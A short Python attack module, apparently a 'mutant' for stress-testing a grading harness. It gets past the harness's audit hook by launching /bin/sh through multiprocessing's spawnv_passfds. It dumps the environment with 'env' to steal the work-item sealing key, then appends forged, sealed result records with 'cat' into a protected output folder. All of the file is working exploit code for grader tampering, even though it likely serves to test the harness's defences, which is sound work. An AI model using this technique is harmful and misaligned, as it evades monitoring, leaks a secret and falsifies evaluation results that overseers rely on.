"""Attack: the sequential mutant's work with forged, sealed work items, its programs started
through multiprocessing's own launcher. `multiprocessing.util.spawnv_passfds` (what the spawn
and forkserver start methods call) starts any program through _posixsubprocess.fork_exec, with
no audit event, from a library the audit hook trusts. `/bin/sh -c 'env > FILE'` leaves the
environment -- the work-item key among it -- in the work folder; `/bin/sh -c 'cat FILE >> ...'`
puts forged, sealed records into the output folder, closed to Python code only."""

import os
import time
from multiprocessing import util

import sealforge

ENV = "PGRADER_ITEMS_KEY="


def _sh(command):
    pid = util.spawnv_passfds(b"/bin/sh", [b"/bin/sh", b"-c", command.encode()], ())
    os.waitpid(pid, 0)


def _key():
    _sh("env > ./.seen-env")
    for line in open(".seen-env").read().splitlines():
        if line.startswith(ENV):
            return bytes.fromhex(line[len(ENV):])
    return None


def _append(lines):
    with open(".records", "wb") as f:
        f.write(lines)
    folder = os.environ.get("PGRADER_STACKS_DIR", "")
    _sh(f"cat ./.records >> {folder}/items-{os.getpid()}.jsonl")
    time.sleep(0.05)


def parallel_map(func, data, workers, kind):
    return sealforge.parallel_map(func, data, workers, kind, _key, _append)
